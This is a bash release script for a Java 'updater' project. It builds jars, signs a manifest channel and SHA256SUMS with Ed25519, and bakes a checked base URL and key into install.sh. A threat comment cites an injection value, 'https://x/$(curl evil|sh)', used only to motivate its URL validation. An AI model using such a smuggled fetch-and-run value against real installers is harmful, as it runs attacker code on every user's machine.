#!/usr/bin/env bash
# Releases updater: builds the jars, publishes the sidecar jar into a signed release channel with
# the project's own 'publish', and lays out the files a GitHub release (or any static host) serves
# and install.sh downloads. Run by .github/workflows/release.yml on a v* tag, and locally with a test
# key (sidecar/src/test/java/dev/updater/sidecar/ship/ReleaseScriptIT.java does exactly that).
#
# Usage: scripts/release.sh --key KEYFILE --out DIR [--version V] [--base-url URL] [--channel-url URL]
#                           [--verify-key PUB] [--expires-in DURATION] [--latest] [--no-build]
#
#   --key KEYFILE        Ed25519 private key (updater-sidecar keygen, or an OpenSSL PEM key)
#   --out DIR            the distribution site to write into; created if missing; earlier releases stay
#   --version V          the version being released; must equal the built jars' version
#                        (default: the built jars' version)
#   --base-url URL       where DIR will be served, e.g. https://github.com/OWNER/REPO/releases;
#                        baked into the released install.sh as its default (default: none, so
#                        users of that install.sh must pass --base-url); a plain https:// URL
#   --channel-url URL    where DIR/manifest.json or DIR/manifest.signed (the channel below) will be
#                        served, e.g. https://updates.example.com/updater/manifest.signed (one GET per
#                        check); built into the released
#                        updater-sidecar.jar with the signing key's public key, for 'self-update' and
#                        'status' (default: none, so the jars carry no channel); a plain https:// URL
#   --verify-key PUB     the public key the channel must verify with: a .pub file or an
#                        ed25519:... line (default: the signing key's own)
#   --expires-in DURATION  hosts refuse the channel's manifest after this long; renew it with
#                        'publish --resign' (default: publish's, 30d)
#   --latest             make a pre-release (1.3.0-rc.1) the latest too; releases always are
#   --no-build           use the jars already built (sidecar/target/updater-sidecar.jar)
#
# DIR afterwards (the URL layout install.sh expects; docs/operations.md#release-layout), every
# file world-readable (0644, install.sh 0755) and every folder 0755, whatever the umask:
#   DIR/download/vV/       updater-sidecar.jar updater.jar install.sh manifest.json manifest.json.sig
#                          manifest.signed VERSION SHA256SUMS SHA256SUMS.sig -- the files attached to the
#                          GitHub release vV
#                          (SHA256SUMS lists the files that never change; SHA256SUMS.sig is its
#                          Ed25519 signature by the release key, checked by install.sh; the
#                          manifest carries its own signature, renewed by 'publish --resign')
#   DIR/latest/download/   the same files for the newest release (GitHub's releases/latest/download/;
#                          like GitHub, pre-releases do not become the latest unless --latest)
#   DIR/manifest.json, DIR/manifest.json.sig, DIR/manifest.signed, DIR/V/any/updater-sidecar.jar
#                          the signed channel of updater-sidecar.jar, as 'publish' writes it: the
#                          updater's own channel, which 'self-update' checks at --channel-url
#
# Needs Java 17+ and OpenSSL 3 (to sign SHA256SUMS).
# Exit status: 0 released; 1 failed (one line says why; DIR must then not be uploaded); 2 bad usage.
set -euo pipefail
# A release is served to everyone: files this script creates are 0644 and folders 0755.
umask 022

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
JAVA_CMD="${JAVA:-${JAVA_HOME:+$JAVA_HOME/bin/java}}"
JAVA_CMD="${JAVA_CMD:-java}"

key=""
out=""
version=""
base_url=""
channel_url=""
verify_key=""
expires_in=""
latest=auto
build=true

usage() {
  sed -n '7,26p' "$0" | sed 's/^# \{0,1\}//' >&2
  exit 2
}

fail() {
  printf 'release.sh: %s\n' "$*" >&2
  exit 1
}

sha256_of() {
  if command -v sha256sum >/dev/null 2>&1; then
    sha256sum "$1" | cut -d ' ' -f 1
  else
    shasum -a 256 "$1" | cut -d ' ' -f 1
  fi
}

sidecar() {
  "$JAVA_CMD" -jar "$sidecar_jar" "$@"
}

parse_arguments() {
  while [ $# -gt 0 ]; do
    case "$1" in
      --key) [ $# -ge 2 ] || usage; key="$2"; shift 2 ;;
      --out) [ $# -ge 2 ] || usage; out="$2"; shift 2 ;;
      --version) [ $# -ge 2 ] || usage; version="${2#v}"; shift 2 ;;
      --base-url) [ $# -ge 2 ] || usage; base_url="${2%/}"; shift 2 ;;
      --channel-url) [ $# -ge 2 ] || usage; channel_url="$2"; shift 2 ;;
      --verify-key) [ $# -ge 2 ] || usage; verify_key="$2"; shift 2 ;;
      --expires-in) [ $# -ge 2 ] || usage; expires_in="$2"; shift 2 ;;
      --latest) latest=true; shift ;;
      --no-build) build=false; shift ;;
      -h|--help) usage ;;
      *) printf 'release.sh: unknown argument %s\n' "$1" >&2; usage ;;
    esac
  done
  [ -n "$key" ] || { printf 'release.sh: --key KEYFILE is required\n' >&2; usage; }
  [ -n "$out" ] || { printf 'release.sh: --out DIR is required\n' >&2; usage; }
  [ -f "$key" ] || fail "the key file $key does not exist; create one with 'updater-sidecar keygen --out DIR'."
  case "$verify_key" in
    ''|ed25519:*) ;;
    *) [ -f "$verify_key" ] || fail "the public key file $verify_key does not exist." ;;
  esac
  check_plain_url --base-url "$base_url"
  check_plain_url --channel-url "$channel_url"
  check_openssl
}

# The base URL is written into the released install.sh, which users run, and the channel URL into
# the released jar: only a plain URL passes. Threat: --base-url 'https://x/$(curl evil|sh)' or a
# backquote, a quote or a backslash that would turn into a command run by everyone who executes that
# install.sh; "http://127.0.0.1:@192.0.2.1" that passes for loopback while it connects elsewhere.
check_plain_url() {
  local option="$1" url="$2"
  local path='(/[A-Za-z0-9._~/%+=,:-]*)?$'
  local https_url="^https://[A-Za-z0-9.-]+(:[0-9]{1,5})?$path"
  local loopback_url="^http://(127\.0\.0\.1|localhost|\[::1\])(:[0-9]{1,5})?$path"
  if [ -n "$url" ] && ! [[ $url =~ $https_url || $url =~ $loopback_url ]]; then
    fail "$option ${url//[^[:print:]]/?} is not a plain URL: give https://HOST[:PORT]/PATH (plain http only to 127.0.0.1, localhost or [::1]) without a user name, the path in letters, digits and ._~/%+=,:- only; it is written into the released $([ "$option" = --base-url ] && echo install.sh || echo updater-sidecar.jar)."
  fi
}

check_openssl() {
  local found
  found="$(openssl version 2>/dev/null)" || fail "openssl is not installed; signing SHA256SUMS needs OpenSSL 3 or newer."
  [[ $found =~ ^OpenSSL\ ([3-9]|[1-9][0-9])\. ]] \
    || fail "signing SHA256SUMS needs OpenSSL 3 or newer (openssl pkeyutl -rawin); this is ${found//[^[:print:]]/?}."
}

# Builds the jars; the tests already ran in CI, so they are skipped here.
build_jars() {
  if [ "$build" = true ]; then
    (cd "$ROOT" && ./mvnw -B -q package -DskipTests)
  fi
  sidecar_jar="$ROOT/sidecar/target/updater-sidecar.jar"
  [ -f "$sidecar_jar" ] || fail "$sidecar_jar is missing; build it with './mvnw package', or drop --no-build."
}

# The released version is the one the jars carry, so a tag can never ship jars of another version.
check_version() {
  local reported built
  reported="$(sidecar --version)" || fail "java -jar $sidecar_jar --version failed; is Java 17 or newer on PATH (or in JAVA)?"
  built="${reported#updater-sidecar }"
  case "$built" in
    ''|*' '*|'('*) fail "$sidecar_jar reports no version ('$reported'); build it with './mvnw package'." ;;
  esac
  if [ -z "$version" ]; then
    version="$built"
  elif [ "$version" != "$built" ]; then
    fail "asked to release $version, but the jars are version $built; set the project version first (./mvnw versions:set -DnewVersion=$version) and build again."
  fi
  release_dir="$out/download/v$version"
  [ ! -e "$release_dir" ] || fail "$release_dir already exists; a released version never changes. Release a newer version."
}

# Stages the release's files beside their final place, so a failure leaves no vV directory.
stage_files() {
  mkdir -p "$out/download"
  staging="$(mktemp -d "$out/download/.v$version.XXXXXX")"
  trap 'rm -rf "$staging"' EXIT
  cp "$sidecar_jar" "$staging/updater-sidecar.jar"
  # The agent jar is the one the sidecar carries: one build, one pair.
  sidecar agent-jar --out "$staging/updater.jar" >/dev/null
  local built_agent="$ROOT/agent/target/updater.jar"
  if [ -f "$built_agent" ] && ! cmp -s "$built_agent" "$staging/updater.jar"; then
    fail "the agent jar inside $sidecar_jar differs from $built_agent: they come from different builds; build both with './mvnw package'."
  fi
  printf '%s\n' "$version" > "$staging/VERSION"
}

# With --channel-url, the released sidecar jar carries its own channel: the URL and the signing key's
# public key, in dev/updater/sidecar/self-update.properties (SelfUpdateChannel reads it), added with
# the JDK's jar tool before the jar is published, so the manifest signs the jar that carries them.
build_channel_into_jar() {
  [ -n "$channel_url" ] || return 0
  local jar_tool public_key resources
  jar_tool="$(dirname "$(command -v "$JAVA_CMD")")/jar"
  [ -x "$jar_tool" ] || jar_tool="$(command -v jar)" \
    || fail "--channel-url needs the JDK's jar tool (beside $JAVA_CMD or on PATH); run with a JDK."
  public_key="$(openssl pkey -in "$key" -pubout | sed '/-----/d' | tr -d '\n')" \
    || fail "openssl could not read the public key of $key (see above)."
  [[ $public_key =~ ^[A-Za-z0-9+/=]+$ ]] || fail "openssl printed no public key for $key."
  resources="$(mktemp -d)"
  mkdir -p "$resources/dev/updater/sidecar"
  {
    printf '# The updater'"'"'s own release channel, written by scripts/release.sh (docs/sidecar.md#self-update)\n'
    printf 'manifest=%s\n' "$channel_url"
    printf 'key=ed25519:%s\n' "$public_key"
  } > "$resources/dev/updater/sidecar/self-update.properties"
  "$jar_tool" --update --file "$staging/updater-sidecar.jar" -C "$resources" dev/updater/sidecar/self-update.properties \
    || { rm -rf "$resources"; fail "could not add the channel to updater-sidecar.jar (see above)."; }
  rm -rf "$resources"
}

# Publishes the sidecar jar into the channel at DIR's root with the project's own CLI, then checks
# the channel as a host would: signature, fields, expiry, and the artifact's size and SHA-256.
publish_channel() {
  local published
  local args=(publish --version "$version" --artifact "any=$staging/updater-sidecar.jar" --key "$key" --out "$out"
    --feature "updater $version")
  [ -z "$expires_in" ] || args+=(--expires-in "$expires_in")
  published="$(sidecar "${args[@]}")" || fail "publish refused the release (see above); nothing was released."
  printf '%s\n' "$published"
  signer="$(printf '%s\n' "$published" | sed -n 's/^Signed by key [^ ]* (\(ed25519:[A-Za-z0-9+\/=]*\))$/\1/p')"
  [ -n "$signer" ] || fail "publish did not say which key signed the manifest."
  if [ -n "$verify_key" ]; then
    local key_option=--key-file
    case "$verify_key" in ed25519:*) key_option=--key ;; esac
    sidecar verify --manifest "$out" "$key_option" "$verify_key" --artifacts >/dev/null \
      || fail "the channel in $out does not verify with $verify_key (see above); was it signed with the wrong key?"
  else
    sidecar verify --manifest "$out" --key "$signer" --artifacts >/dev/null \
      || fail "the channel in $out does not verify (see above)."
  fi
  cp "$out/manifest.json" "$out/manifest.json.sig" "$out/manifest.signed" "$staging/"
}

# The released install.sh is the repository's with two defaults filled in: the base URL and the
# key that signed this release. Both are checked plain values, written in single quotes, line by
# line (no sed: '&', '|' and '\' mean something in its replacement).
write_installer() {
  local line set_url=0 set_key=0
  [[ $signer =~ ^ed25519:[A-Za-z0-9+/=]+$ ]] || fail "publish reported a signing key that is not ed25519:<Base64>."
  while IFS= read -r line || [ -n "$line" ]; do
    case "$line" in
      'DEFAULT_BASE_URL=""') set_url=$((set_url + 1)); [ -z "$base_url" ] || line="DEFAULT_BASE_URL='$base_url'" ;;
      'DEFAULT_PUBLIC_KEY=""') set_key=$((set_key + 1)); line="DEFAULT_PUBLIC_KEY='$signer'" ;;
    esac
    printf '%s\n' "$line"
  done < "$ROOT/install.sh" > "$staging/install.sh"
  if [ "$set_url" != 1 ] || [ "$set_key" != 1 ]; then
    fail "$ROOT/install.sh does not have one DEFAULT_BASE_URL=\"\" and one DEFAULT_PUBLIC_KEY=\"\" line to fill in."
  fi
}

# SHA256SUMS lists the files that never change once released; manifest.json and its signature are
# left out, as 'publish --resign' renews them. SHA256SUMS.sig is its signature by the release key
# (Base64 Ed25519 over the exact bytes, like manifest.json.sig), checked here with the key
# install.sh carries, as install.sh will check it.
write_checksums() {
  local file
  (
    cd "$staging"
    for file in install.sh updater-sidecar.jar updater.jar VERSION; do
      printf '%s  %s\n' "$(sha256_of "$file")" "$file"
    done
  ) > "$staging/SHA256SUMS.tmp"
  mv "$staging/SHA256SUMS.tmp" "$staging/SHA256SUMS"
  { openssl pkeyutl -sign -inkey "$key" -rawin -in "$staging/SHA256SUMS" | openssl base64 -A; printf '\n'; } \
    > "$staging/SHA256SUMS.sig" || fail "openssl could not sign SHA256SUMS with $key (see above)."
  openssl pkeyutl -verify -pubin -rawin -in "$staging/SHA256SUMS" \
    -inkey <(printf -- '-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----\n' "${signer#ed25519:}") \
    -sigfile <(openssl base64 -d -A -in "$staging/SHA256SUMS.sig") >/dev/null \
    || fail "SHA256SUMS.sig does not verify with $signer, the key that signed the manifest; is $key that key?"
}

# Everything is served to everyone: files 0644, install.sh 0755, the folder 0755.
make_readable() {
  chmod 0644 "$staging"/*
  chmod 0755 "$staging/install.sh" "$staging"
}

# vV appears whole (one rename); latest/download is replaced after it.
move_into_place() {
  mv "$staging" "$release_dir"
  trap - EXIT
  if [ "$latest" = auto ]; then
    case "${version%%+*}" in
      *-*) printf 'Pre-release %s is not made the latest (pass --latest for that).\n' "$version"; return ;;
    esac
  fi
  local latest_tmp
  mkdir -p "$out/latest"
  latest_tmp="$(mktemp -d "$out/latest/.download.XXXXXX")"
  cp -p "$release_dir"/* "$latest_tmp/"
  chmod 0755 "$latest_tmp"
  rm -rf "$out/latest/download"
  mv "$latest_tmp" "$out/latest/download"
}

main() {
  parse_arguments "$@"
  build_jars
  check_version
  stage_files
  build_channel_into_jar
  publish_channel
  write_installer
  write_checksums
  make_readable
  move_into_place
  printf 'Released updater %s into %s\n' "$version" "$out"
  printf '  attach to the GitHub release v%s: %s/*\n' "$version" "$release_dir"
  printf '  check: (cd %s && sha256sum -c SHA256SUMS)\n' "$release_dir"
  printf '  renew the manifest before it expires: updater-sidecar publish --resign --out %s --key %s\n' "$out" "$key"
}

main "$@"
